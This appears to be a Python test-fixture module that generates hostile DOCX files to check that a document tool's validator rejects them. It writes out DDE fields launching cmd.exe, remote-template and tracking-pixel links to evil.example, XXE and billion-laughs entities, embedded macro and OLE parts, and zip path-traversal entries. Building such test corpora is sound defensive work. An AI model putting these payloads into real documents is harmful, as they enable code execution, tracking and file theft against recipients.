"""Hostile and good reference documents, built from real bases by mutating their parts.

Nothing binary is committed: each case is a function of a real base —
``templates/default/docx/reference.docx``, or the same file reshaped as Word
saves it in a Chinese locale (style ids ``a``, ``1``, ``a0``…, every part on
one line, extra parts Word writes) — so the corpus follows the built-in
reference when it changes. ``tests/test_hostile_reference_docx.py`` runs every
case through ``outlookgen templates check`` and ``outlookgen build``.

To look at the files (in Word, LibreOffice, another checker)::

    python tests/hostile/reference-docx/cases.py OUTDIR
"""

from __future__ import annotations

import io
import re
import sys
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

ROOT = Path(__file__).resolve().parents[3]
BASE = ROOT / "templates" / "default" / "docx" / "reference.docx"

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS = "http://schemas.microsoft.com/office/2006/relationships/"
PR_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
CT_TEMPLATE = WML + "template.main+xml"
CT_DOCUMENT = WML + "document.main+xml"

# -- building blocks ------------------------------------------------------------------------------


def read_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def write_parts(parts, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of ``parts`` (a mapping, or (name, bytes) pairs, so names may repeat)."""
    items = parts.items() if isinstance(parts, dict) else parts
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", compression) as archive:
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": the point of one case
        for name, data in items:
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, compress_type=compression)
    return out.getvalue()


def edit(base: bytes, changes: dict[str, Callable[[str], str]] | None = None, add: dict | None = None) -> bytes:
    """``base`` with text parts rewritten by ``changes`` and parts added (str or bytes)."""
    parts = read_parts(base)
    for name, change in (changes or {}).items():
        parts[name] = change(parts[name].decode("utf-8")).encode("utf-8")
    for name, data in (add or {}).items():
        parts[name] = data.encode("utf-8") if isinstance(data, str) else data
    return write_parts(parts)


def before(marker: str, text: str) -> Callable[[str], str]:
    def change(xml: str) -> str:
        assert marker in xml, marker
        return xml.replace(marker, text + marker, 1)

    return change


def after(marker: str, text: str) -> Callable[[str], str]:
    def change(xml: str) -> str:
        assert marker in xml, marker
        return xml.replace(marker, marker + text, 1)

    return change


def chain(*changes: Callable[[str], str]) -> Callable[[str], str]:
    def change(xml: str) -> str:
        for one in changes:
            xml = one(xml)
        return xml

    return change


def rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target={quoteattr(target)}{mode}/>'


def add_rels(*relationships: str) -> Callable[[str], str]:
    return before("</Relationships>", "".join(relationships))


def override(part: str, content_type: str) -> Callable[[str], str]:
    return before("</Types>", f'<Override PartName="{part}" ContentType="{content_type}"/>')


def default(extension: str, content_type: str) -> Callable[[str], str]:
    return before("</Types>", f'<Default Extension="{extension}" ContentType="{content_type}"/>')


def rels_file(*relationships: str, prefix: str = "") -> str:
    p = f"{prefix}:" if prefix else ""
    xmlns = f"xmlns:{prefix}" if prefix else "xmlns"
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<{p}Relationships {xmlns}="{PR_NS}">' + "".join(relationships) + f"</{p}Relationships>"
    )


def in_body(xml: str) -> Callable[[str], str]:
    return after("<w:body>", xml)


def in_header(xml: str) -> Callable[[str], str]:
    return before("</w:hdr>", xml)


def in_footer(xml: str) -> Callable[[str], str]:
    return before("</w:ftr>", xml)


def simple_field(instruction: str) -> str:
    return f"<w:p><w:fldSimple w:instr={quoteattr(instruction)}><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"


def complex_field(instruction: str, cut: int) -> str:
    """The field as Word writes a long or edited one: the instruction split over runs (here at ``cut``)."""
    pieces = [instruction[:cut], instruction[cut:]]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{escape(p)}</w:instrText></w:r>' for p in pieces)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def nested_field(outer: str, inner: str) -> str:
    """``{ IF 1 = 1 "{ inner }" }``: the dangerous field inside a harmless one's instruction."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{escape(outer)} "</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{escape(inner)}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText xml:space="preserve">"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


# -- the bases ------------------------------------------------------------------------------------


@lru_cache(maxsize=1)
def default_base() -> bytes:
    return BASE.read_bytes()


# Word in a Chinese locale names styles by number and letter; only w:name is stable.
CHINESE_IDS = {
    "Normal": "a",
    "DefaultParagraphFont": "a0",
    "TableNormal": "a1",
    "NoList": "a2",
    "Title": "a3",
    "Subtitle": "a4",
    "Header": "a5",
    "Footer": "a6",
    "Hyperlink": "a7",
    "Caption": "a8",
    "Heading1": "1",
    "Heading2": "2",
    "Heading3": "3",
    "Heading4": "4",
    "TOC1": "10",
    "TOC2": "20",
    "TOC3": "30",
    "TOCHeading": "TOC",
}
# Ids change where a style is defined or referred to; names (w:name) stay as they are.
_STYLE_REF = re.compile(
    r'(w:styleId=|<w:(?:basedOn|next|link|pStyle|rStyle|tblStyle) w:val=)"(' + "|".join(CHINESE_IDS) + r')"'
)


def _word_line(xml: str) -> str:
    """A part as Word writes it: the declaration, CRLF, then everything on one line."""
    body = xml.split("?>", 1)[1]
    body = re.sub(r">\s+<", "><", body.strip())
    return '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' + body


@lru_cache(maxsize=1)
def chinese_base() -> bytes:
    """The built-in reference reshaped as a Word-saved zh-CN template, with the extra parts Word keeps."""
    parts = read_parts(default_base())
    out: dict[str, bytes] = {}
    for name, data in parts.items():
        text = data.decode("utf-8")
        if name.startswith("word/") and name.endswith(".xml"):
            text = _STYLE_REF.sub(lambda m: f'{m.group(1)}"{CHINESE_IDS[m.group(2)]}"', text)
        if name == "word/styles.xml":
            assert 'w:name w:val="heading 1"' in text
            text = text.replace('w:eastAsia="微软雅黑"', 'w:eastAsia="宋体"', 1)
        out[name] = _word_line(text).encode("utf-8")
    decl = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
    w = f'xmlns:w="{W_NS}"'
    extra = {
        "word/webSettings.xml": f"{decl}<w:webSettings {w}><w:optimizeForBrowser/><w:allowPNG/></w:webSettings>",
        "customXml/item1.xml": f'{decl}<b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography" SelectedStyle="\\APA.XSL"/>',
        "customXml/itemProps1.xml": f'{decl}<ds:datastoreItem ds:itemID="{{6B8B6C5E-3D36-4C1F-9A43-0D1C1F3A3A11}}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"><ds:schemaRefs><ds:schemaRef ds:uri="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"/></ds:schemaRefs></ds:datastoreItem>',
        "customXml/_rels/item1.xml.rels": _word_line(rels_file(rel("rId1", R + "customXmlProps", "itemProps1.xml"))),
        "docProps/custom.xml": f'{decl}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="2" name="密级"><vt:lpwstr>内部</vt:lpwstr></property></Properties>',
        "word/glossary/document.xml": f"{decl}<w:glossaryDocument {w}><w:docParts><w:docPart><w:docPartPr>"
        + '<w:name w:val="页码"/></w:docPartPr><w:docPartBody>'
        + simple_field(" PAGE ")
        + "</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>",
    }
    for name, text in extra.items():
        out[name] = text.encode("utf-8")
    types = out["[Content_Types].xml"].decode("utf-8")
    for part, content_type in (
        ("/word/webSettings.xml", WML + "webSettings+xml"),
        ("/customXml/itemProps1.xml", "application/vnd.openxmlformats-officedocument.customXmlProperties+xml"),
        ("/docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml"),
        ("/word/glossary/document.xml", WML + "document.glossary+xml"),
    ):
        types = override(part, content_type)(types)
    out["[Content_Types].xml"] = types.encode("utf-8")
    document_rels = out["word/_rels/document.xml.rels"].decode("utf-8")
    document_rels = add_rels(
        rel("rId20", R + "webSettings", "webSettings.xml"),
        rel("rId21", R + "customXml", "../customXml/item1.xml"),
        rel("rId22", R + "glossaryDocument", "glossary/document.xml"),
    )(document_rels)
    out["word/_rels/document.xml.rels"] = document_rels.encode("utf-8")
    package_rels = out["_rels/.rels"].decode("utf-8")
    out["_rels/.rels"] = add_rels(rel("rId9", R + "custom-properties", "docProps/custom.xml"))(package_rels).encode()
    return write_parts(out)


def as_template(data: bytes) -> bytes:
    """The document saved as a Word template (.dotx): only the main part's content type differs."""
    marker = "Firm Marker Style"
    style = (
        f'<w:style w:type="paragraph" w:customStyle="1" w:styleId="FirmMarker"><w:name w:val="{marker}"/>'
        '<w:basedOn w:val="a"/><w:rPr><w:color w:val="C8102E"/></w:rPr></w:style>'
    )
    return edit(
        data,
        {
            "[Content_Types].xml": lambda x: x.replace(CT_DOCUMENT, CT_TEMPLATE),
            "word/styles.xml": before("</w:styles>", style),
        },
    )


# -- the cases ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    part: str | None  # the part the error line names (None: the file must be accepted)
    message: str = ""  # a piece of that line's message
    at: str = ""  # what the located line:col points at in the part (when checked)
    file: str = "reference.docx"


def _hostile(name, make, part, message, at="", file="reference.docx") -> Case:
    return Case(name, make, part, message, at, file)


D = "word/document.xml"
DR = "word/_rels/document.xml.rels"
H = "word/header1.xml"
CT = "[Content_Types].xml"
REMOTE_TEMPLATE = "http://evil.example/macros.dotm"

FIELDS = {  # name: (instruction, what the refusal says)
    "INCLUDEPICTURE": (' INCLUDEPICTURE "http://evil.example/pixel.png" \\d ', "fetches a picture"),
    "INCLUDETEXT": (' INCLUDETEXT "C:\\\\secrets\\\\plan.docx" ', "pulls in text from another file"),
    "DDE": (' DDE "cmd" "/c calc" "x" ', "DDE"),
    "DDEAUTO": (' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ', "as the document opens"),
    "IMPORT": (' IMPORT "\\\\\\\\evil.example\\\\share\\\\p.wmf" ', "imports a picture"),
    "LINK": (' LINK Excel.Sheet.8 "C:\\\\x.xls" "Sheet1!R1C1" \\a ', "links to another program"),
}


def _cases() -> list[Case]:
    cases: list[Case] = []
    add = cases.append
    base, zh = default_base, chinese_base

    # -- relationships: the same threat in every spelling XML allows -----------------------------
    add(_hostile(
        "rels-single-quotes", lambda: edit(base(), {DR: add_rels(
            f"<Relationship Id='rId90' Type='{R}oleObject' Target='http://evil.example/x.bin' TargetMode='External'/>"
        )}), DR, 'TargetMode="External"', "<Relationship Id='rId90'",
    ))  # fmt: skip
    add(_hostile(
        "rels-whitespace-around-equals", lambda: edit(base(), {DR: add_rels(
            f'<Relationship\n\tId = "rId90"\n   Type = "{R}image"\n Target="http://evil.example/pixel.png"\n'
            "  TargetMode = 'External' />"
        )}), DR, "http://evil.example/pixel.png", "<Relationship",
    ))  # fmt: skip
    add(_hostile(
        "rels-other-namespace-prefix", lambda: edit(base(), add={DR: rels_file(
            rel("rId1", R + "styles", "styles.xml").replace("<Relationship", "<pr:Relationship"),
            f'<pr:Relationship Id="rId90" Type="{R}attachedTemplate" Target="{REMOTE_TEMPLATE}" TargetMode="External"/>',
            prefix="pr",
        )}), DR, "attached template", '<pr:Relationship Id="rId90"',
    ))  # fmt: skip
    add(_hostile(
        "rels-character-reference-in-target-mode", lambda: edit(base(), {DR: add_rels(
            f'<Relationship Id="rId90" Type="{R}frame" Target="http://evil.example/f.html" TargetMode="&#69;xternal"/>'
        )}), DR, "frame", '<Relationship Id="rId90"',
    ))  # fmt: skip
    add(_hostile(
        "attached-template-in-settings-rels", lambda: edit(base(), {
            "word/settings.xml": after("<w:zoom w:percent=\"100\"/>", '<w:attachedTemplate r:id="rId1"/>'),
        }, add={"word/_rels/settings.xml.rels": rels_file(
            rel("rId1", R + "attachedTemplate", REMOTE_TEMPLATE, external=True)
        )}), "word/_rels/settings.xml.rels", "attached template", '<Relationship Id="rId1"',
    ))  # fmt: skip
    add(_hostile(
        "attached-template-element-in-settings", lambda: edit(base(), {
            "word/settings.xml": after("<w:zoom w:percent=\"100\"/>", '<w:attachedTemplate r:id="rId1"/>'),
        }, add={"word/_rels/settings.xml.rels": rels_file(
            rel("rId1", R + "attachedTemplate", REMOTE_TEMPLATE, external=True)
        )}), "word/settings.xml", "attached template", "<w:attachedTemplate",
    ))  # fmt: skip
    add(_hostile(
        "remote-image-in-header", lambda: edit(base(), add={"word/_rels/header1.xml.rels": rels_file(
            rel("rId1", R + "image", "https://evil.example/track.png?u=1", external=True)
        )}), "word/_rels/header1.xml.rels", "https://evil.example/track.png", "<Relationship Id=\"rId1\"",
    ))  # fmt: skip
    add(_hostile(
        "file-target-hyperlink", lambda: edit(base(), {DR: add_rels(
            rel("rId90", R + "hyperlink", "file:///etc/passwd", external=True)
        )}), DR, "only http, https and mailto", '<Relationship Id="rId90"',
    ))  # fmt: skip
    add(_hostile(
        "unc-target-hyperlink", lambda: edit(base(), {DR: add_rels(
            rel("rId90", R + "hyperlink", "\\\\evil.example\\share\\payload.docx", external=True)
        )}), DR, "only http, https and mailto", '<Relationship Id="rId90"',
    ))  # fmt: skip
    add(_hostile(
        "javascript-hyperlink-with-leading-space", lambda: edit(base(), {DR: add_rels(
            rel("rId90", R + "hyperlink", " javascript:alert(1)", external=True)
        )}), DR, "only http, https and mailto", '<Relationship Id="rId90"',
    ))  # fmt: skip
    add(_hostile(
        "file-target-image", lambda: edit(base(), {DR: add_rels(
            rel("rId90", R + "image", "file:///C:/Users/Public/p.png", external=True)
        )}), DR, 'TargetMode="External"', '<Relationship Id="rId90"',
    ))  # fmt: skip
    add(_hostile(
        "internal-target-out-of-the-zip", lambda: edit(base(), {DR: add_rels(
            rel("rId90", R + "image", "../../../../etc/passwd")
        )}), DR, "leaves the package", '<Relationship Id="rId90"',
    ))  # fmt: skip
    add(_hostile(
        "internal-target-that-is-an-address", lambda: edit(base(), {DR: add_rels(
            rel("rId90", R + "image", "http://evil.example/p.png")
        )}), DR, "is an address", '<Relationship Id="rId90"',
    ))  # fmt: skip
    add(_hostile(
        "header-relationship-to-a-missing-part", lambda: edit(base(), {DR: lambda x: x.replace(
            'Target="header1.xml"', 'Target="header9.xml"')}), DR, "which the file does not hold",
        '<Relationship Id="rId4"',
    ))  # fmt: skip
    add(_hostile(
        "header-relationship-to-a-picture", lambda: edit(base(), {
            DR: lambda x: x.replace('Target="header1.xml"', 'Target="media/image1.png"'),
            CT: default("png", "image/png"),
        }, add={"word/media/image1.png": b"\x89PNG\r\n\x1a\n"}), DR, "not one a header part has",
        '<Relationship Id="rId4"',
    ))  # fmt: skip
    add(_hostile(
        "unknown-relationship-type", lambda: edit(base(), {
            DR: add_rels(rel("rId90", R + "chart", "charts/chart1.xml")),
            CT: override("/word/charts/chart1.xml", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"),
        }, add={"word/charts/chart1.xml": '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>'}),
        "word/charts/chart1.xml", "does not carry into Word documents",
    ))  # fmt: skip
    add(_hostile(
        "mail-merge-data-source", lambda: edit(base(), {
            "word/settings.xml": after("<w:zoom w:percent=\"100\"/>",
                '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="odso"/>'
                '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil\\x.xlsx"/>'
                '<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>'),
        }), "word/settings.xml", "mail merge", "<w:mailMerge>",
    ))  # fmt: skip

    # -- fields: every one that fetches or runs, simple and split, in every story --------------
    for name, (instruction, says) in FIELDS.items():
        add(_hostile(f"field-{name.lower()}-simple-in-body", lambda i=instruction: edit(base(), {
            D: in_body(simple_field(i))}), D, says, "<w:fldSimple"))  # fmt: skip
        cut = instruction.index(name) + len(name) // 2  # the field's own name split over two runs
        add(_hostile(f"field-{name.lower()}-split-in-header", lambda i=instruction, c=cut: edit(base(), {
            H: in_header(complex_field(i, c))}), H, says, '<w:fldChar w:fldCharType="begin"'))  # fmt: skip
    add(_hostile(
        "field-lower-case-with-leading-spaces", lambda: edit(base(), {D: in_body(
            simple_field('    includepicture "http://evil.example/p.png"'))}), D, "fetches a picture", "<w:fldSimple",
    ))  # fmt: skip
    add(_hostile(
        "field-behind-a-leading-switch", lambda: edit(base(), {H: in_header(
            complex_field('\\* MERGEFORMAT INCLUDETEXT "C:\\\\x.docx"', 20))}), H, "pulls in text",
        '<w:fldChar w:fldCharType="begin"',
    ))  # fmt: skip
    add(_hostile(
        "field-nested-in-an-if", lambda: edit(base(), {H: in_header(
            nested_field(" IF 1 = 1 ", ' INCLUDEPICTURE "http://evil.example/p.png" '))}), H, "fetches a picture",
    ))  # fmt: skip
    add(_hostile(
        "field-ddeauto-in-footer", lambda: edit(base(), {"word/footer1.xml": in_footer(
            complex_field(FIELDS["DDEAUTO"][0], 4))}), "word/footer1.xml", "DDE", '<w:fldChar w:fldCharType="begin"',
    ))  # fmt: skip
    add(_hostile(
        "field-in-footnotes", lambda: edit(base(), {
            DR: add_rels(rel("rId90", R + "footnotes", "footnotes.xml")),
            CT: override("/word/footnotes.xml", WML + "footnotes+xml"),
        }, add={"word/footnotes.xml": f'<w:footnotes xmlns:w="{W_NS}"><w:footnote w:id="1">'
                + simple_field(FIELDS["INCLUDETEXT"][0]) + "</w:footnote></w:footnotes>"}),
        "word/footnotes.xml", "pulls in text", "<w:fldSimple",
    ))  # fmt: skip
    add(_hostile(
        "field-in-glossary-of-a-chinese-template", lambda: edit(zh(), {
            "word/glossary/document.xml": lambda x: x.replace(quoteattr(" PAGE "), quoteattr(FIELDS["LINK"][0])),
        }), "word/glossary/document.xml", "links to another program", "<w:fldSimple",
    ))  # fmt: skip
    add(_hostile(
        "field-in-alternate-content-fallback", lambda: edit(base(), {H: in_header(
            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
            '<mc:Choice Requires="w14"><w:p/></mc:Choice><mc:Fallback>'
            + simple_field(FIELDS["IMPORT"][0]) + "</mc:Fallback></mc:AlternateContent>")}),
        H, "imports a picture", "<w:fldSimple",
    ))  # fmt: skip
    add(_hostile(
        "field-macrobutton", lambda: edit(base(), {D: in_body(simple_field(" MACROBUTTON AutoOpen Click here "))}),
        D, "runs a macro", "<w:fldSimple",
    ))  # fmt: skip
    add(_hostile(
        "field-hyperlink-to-a-file", lambda: edit(base(), {H: in_header(
            complex_field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" ', 6))}), H, "only http, https and mailto",
    ))  # fmt: skip
    add(_hostile(
        "field-unknown", lambda: edit(base(), {D: in_body(simple_field(" FROBNICATE 42 "))}),
        D, "not one outlookgen knows to be safe", "<w:fldSimple",
    ))  # fmt: skip
    add(_hostile(
        "field-in-a-chinese-template-header", lambda: edit(zh(), {H: in_header(
            complex_field(FIELDS["INCLUDEPICTURE"][0], 9))}), H, "fetches a picture", '<w:fldChar w:fldCharType="begin"',
    ))  # fmt: skip

    # -- macros, ActiveX, OLE, altChunk ----------------------------------------------------------
    add(_hostile(
        "vba-project-under-another-name", lambda: edit(base(), {
            CT: override("/word/foo.bin", "application/vnd.ms-office.vbaProject"),
            DR: add_rels(rel("rId90", MS + "vbaProject", "foo.bin")),
        }, add={"word/foo.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504}),
        CT, "word/foo.bin", '<Override PartName="/word/foo.bin"',
    ))  # fmt: skip
    add(_hostile(
        "vba-project-relationship-to-an-innocent-name", lambda: edit(base(), {
            CT: default("png", "image/png"),
            DR: add_rels(rel("rId90", MS + "vbaProject", "media/image1.png")),
        }, add={"word/media/image1.png": b"\x89PNG\r\n\x1a\n"}), DR, "macro", '<Relationship Id="rId90"',
    ))  # fmt: skip
    add(_hostile(
        "vba-default-for-bin", lambda: edit(base(), {CT: default("bin", "application/vnd.ms-office.vbaProject")}),
        CT, "every .bin part", '<Default Extension="bin"',
    ))  # fmt: skip
    add(_hostile(
        "macro-enabled-main-part", lambda: edit(base(), {CT: lambda x: x.replace(
            CT_DOCUMENT, "application/vnd.ms-word.document.macroEnabled.main+xml")}),
        CT, "holds macros", '<Override PartName="/word/document.xml"',
    ))  # fmt: skip
    add(_hostile(
        "macro-enabled-template", lambda: edit(base(), {CT: lambda x: x.replace(
            CT_DOCUMENT, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")}),
        CT, "holds macros", file="reference.dotx",
    ))  # fmt: skip
    add(_hostile(
        "alt-chunk", lambda: edit(base(), {
            D: in_body('<w:altChunk r:id="rId90"/>'),
            DR: add_rels(rel("rId90", R + "aFChunk", "afchunk.mht")),
            CT: default("mht", "message/rfc822"),
        }, add={"word/afchunk.mht": "MIME-Version: 1.0\r\n\r\n<html><img src=http://evil.example/p.png></html>"}),
        D, "altChunk", "<w:altChunk",
    ))  # fmt: skip
    add(_hostile(
        "activex-control", lambda: edit(base(), {
            D: in_body('<w:p><w:r><w:object><w:control r:id="rId90" w:name="CommandButton1"/></w:object></w:r></w:p>'),
            DR: add_rels(rel("rId90", R + "control", "activeX/activeX1.xml")),
            CT: override("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        }, add={"word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>'}),
        D, "ActiveX", "<w:control",
    ))  # fmt: skip
    add(_hostile(
        "ole-object", lambda: edit(base(), {
            D: in_body('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
                       'Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" r:id="rId90"/></w:object></w:r></w:p>'),
            DR: add_rels(rel("rId90", R + "oleObject", "embeddings/oleObject1.bin")),
            CT: default("bin", "application/vnd.openxmlformats-officedocument.oleObject"),
        }, add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60}),
        D, "OLE", "<w:object>",
    ))  # fmt: skip
    add(_hostile(
        "embedded-package", lambda: edit(base(), {
            DR: add_rels(rel("rId90", R + "package", "embeddings/Microsoft_Word_Document.docx")),
            CT: default("docx", WML + "document"),
        }, add={"word/embeddings/Microsoft_Word_Document.docx": default_base()}),
        "word/embeddings/Microsoft_Word_Document.docx", "embedded file",
    ))  # fmt: skip

    # -- XML that attacks the parser, or is not XML --------------------------------------------
    xxe = '<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    add(_hostile(
        "xxe-in-styles", lambda: edit(base(), {"word/styles.xml": lambda x: x.replace("?>\n", "?>\n" + xxe, 1)
            .replace('w:val="Normal"/>', 'w:val="Normal&xxe;"/>', 1)}),
        "word/styles.xml", "DOCTYPE", "<!DOCTYPE",
    ))  # fmt: skip
    add(_hostile(
        "xxe-in-content-types", lambda: edit(base(), {CT: lambda x: x.replace(
            "?>\n", '?>\n<!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', 1)}),
        CT, "DOCTYPE", "<!DOCTYPE",
    ))  # fmt: skip
    add(_hostile(
        "xxe-in-relationships", lambda: edit(base(), {DR: lambda x: x.replace(
            "?>\n", '?>\n<!DOCTYPE r [<!ENTITY t SYSTEM "http://evil.example/t">]>\n', 1)}),
        DR, "DOCTYPE", "<!DOCTYPE",
    ))  # fmt: skip
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    add(_hostile(
        "billion-laughs-in-document", lambda: edit(base(), {D: lambda x: x.replace(
            "?>\n", f'?>\n<!DOCTYPE w:document [<!ENTITY l0 "lol">{lol}]>\n', 1).replace(
            "<w:body>", "<w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p>")}),
        D, "DOCTYPE", "<!DOCTYPE",
    ))  # fmt: skip
    add(_hostile(
        "external-dtd-in-header", lambda: edit(base(), {H: lambda x: x.replace(
            "?>\n", '?>\n<!DOCTYPE w:hdr SYSTEM "http://evil.example/h.dtd">\n', 1)}),
        H, "DOCTYPE", "<!DOCTYPE",
    ))  # fmt: skip
    add(_hostile(
        "malformed-header", lambda: edit(base(), {H: lambda x: x.replace("</w:tbl>", "</w:tblx>", 1)}),
        H, "not well-formed XML",
    ))  # fmt: skip
    add(_hostile(
        "malformed-content-types", lambda: edit(base(), {CT: lambda x: x[: len(x) // 2]}),
        CT, "not well-formed XML",
    ))  # fmt: skip
    add(_hostile(
        "undefined-entity-in-document", lambda: edit(base(), {D: in_body("<w:p><w:r><w:t>a&nbsp;b</w:t></w:r></w:p>")}),
        D, "not well-formed XML",
    ))  # fmt: skip
    add(_hostile(
        "not-utf8-in-styles", lambda: edit(base(), add={"word/styles.xml": read_parts(default_base())[
            "word/styles.xml"].replace(b"Normal", b"Norm\xff\xfel", 1)}),
        "word/styles.xml", "not well-formed XML",
    ))  # fmt: skip
    add(_hostile(
        "core-properties-with-a-foreign-root", lambda: edit(base(), add={"docProps/core.xml": "<foo/>"}),
        "docProps/core.xml", "not {http://schemas.openxmlformats.org/package/2006/metadata/core-properties}", "<foo",
    ))  # fmt: skip
    add(_hostile(
        "styles-part-that-is-a-header", lambda: edit(base(), {"word/styles.xml": lambda x: x.replace(
            "<w:styles ", "<w:hdr ", 1).replace("</w:styles>", "</w:hdr>")}),
        "word/styles.xml", "not w:styles", "<w:hdr",
    ))  # fmt: skip
    add(_hostile(
        "svg-picture-that-fetches", lambda: edit(base(), {
            DR: add_rels(rel("rId90", R + "image", "media/logo.svg")),
            CT: default("svg", "image/svg+xml"),
        }, add={"word/media/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" '
                'xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/t.png"/></svg>'}),
        "word/media/logo.svg", "outside itself", "<image",
    ))  # fmt: skip

    # -- impossible page values where the writer reads them -------------------------------------
    pg = '<w:pgSz w:w="11906" w:h="16838"/>'
    add(_hostile("page-width-a4", lambda: edit(base(), {D: lambda x: x.replace(pg, '<w:pgSz w:w="A4" w:h="16838"/>')}),
                 D, 'w:w="A4"', "<w:pgSz"))  # fmt: skip
    add(_hostile("page-width-in-centimetres", lambda: edit(base(), {D: lambda x: x.replace(
        pg, '<w:pgSz w:w="21cm" w:h="29.7cm"/>')}), D, "whole number of twips", "<w:pgSz"))  # fmt: skip
    add(_hostile("page-width-zero", lambda: edit(base(), {D: lambda x: x.replace(
        pg, '<w:pgSz w:w="0" w:h="16838"/>')}), D, "between 1440 and 31680", "<w:pgSz"))  # fmt: skip
    add(_hostile("negative-left-margin", lambda: edit(base(), {D: lambda x: x.replace(
        'w:left="1134"', 'w:left="-567"')}), D, "left margin", "<w:pgMar"))  # fmt: skip
    add(_hostile("margins-leave-no-text-width", lambda: edit(base(), {D: lambda x: x.replace(
        'w:left="1134"', 'w:left="6000"').replace('w:right="1134"', 'w:right="6000"')}), D, "text width",
        "<w:pgMar"))  # fmt: skip
    add(_hostile("page-orientation-sideways", lambda: edit(base(), {D: lambda x: x.replace(
        pg, '<w:pgSz w:w="11906" w:h="16838" w:orient="sideways"/>')}), D, "portrait or landscape", "<w:pgSz"))  # fmt: skip
    add(_hostile("page-width-a4-in-a-chinese-template", lambda: edit(zh(), {D: lambda x: x.replace(
        pg, '<w:pgSz w:w="A4" w:h="16838"/>')}), D, 'w:w="A4"', "<w:pgSz"))  # fmt: skip
    add(_hostile("no-section-properties", lambda: edit(base(), {D: lambda x: re.sub(
        r"<w:sectPr>.*</w:sectPr>", "", x, flags=re.S)}), D, "w:sectPr", "<w:body>"))  # fmt: skip
    add(_hostile("header-reference-to-nothing", lambda: edit(base(), {D: lambda x: x.replace(
        'r:id="rId4"', 'r:id="rId77"')}), D, "not a header", "<w:headerReference"))  # fmt: skip

    # -- the zip itself ----------------------------------------------------------------------------
    add(_hostile("zip-entry-climbing-out", lambda: write_parts(
        [*read_parts(base()).items(), ("../../evil.xml", b"<x/>")]), "../../evil.xml", "'..'"))  # fmt: skip
    add(_hostile("zip-entry-absolute", lambda: write_parts(
        [*read_parts(base()).items(), ("/etc/cron.d/evil", b"x")]), "/etc/cron.d/evil", "absolute path"))  # fmt: skip
    add(_hostile("zip-entry-backslashes", lambda: write_parts(
